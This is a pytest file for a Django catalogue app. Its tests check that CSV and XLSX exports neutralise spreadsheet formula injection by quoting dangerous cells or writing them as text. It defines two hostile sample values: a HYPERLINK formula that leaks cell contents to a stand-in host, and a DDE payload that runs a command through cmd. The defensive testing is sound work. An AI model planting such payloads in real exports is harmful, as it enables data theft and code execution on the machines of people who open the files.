import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from innovet.catalogue import importer

HOSTILE_TITLE = '=HYPERLINK("http://kwaad.example/?x="&A1,"Klik")'
HOSTILE_SUPPLIER = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.django_db
def test_catalogue_csv_export_neutralises_formulas(client, make_offer, provider):
    make_offer(
        [provider],
        title=HOSTILE_TITLE,
        brand_neutral=False,
        supplier=HOSTILE_SUPPLIER,
        period="-2+3",
        contact_name="\tTab",
    )
    response = client.get(reverse("catalogue:export", args=["csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row[importer.HEADERS[0]] == "'" + HOSTILE_TITLE
    assert "'" + HOSTILE_SUPPLIER in rows[1]
    assert "'-2+3" in rows[1] and "'\tTab" in rows[1]
    assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in rows[1])
    assert "75,00" in rows[1]  # numbers stay numbers


@pytest.mark.django_db
def test_catalogue_xlsx_export_writes_formulas_as_text_cells(client, make_offer, provider):
    make_offer([provider], title=HOSTILE_TITLE, brand_neutral=False, supplier="=1+1")
    response = client.get(reverse("catalogue:export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert cells[0].value == HOSTILE_TITLE and cells[0].data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    assert "=1+1" in [c.value for c in cells]
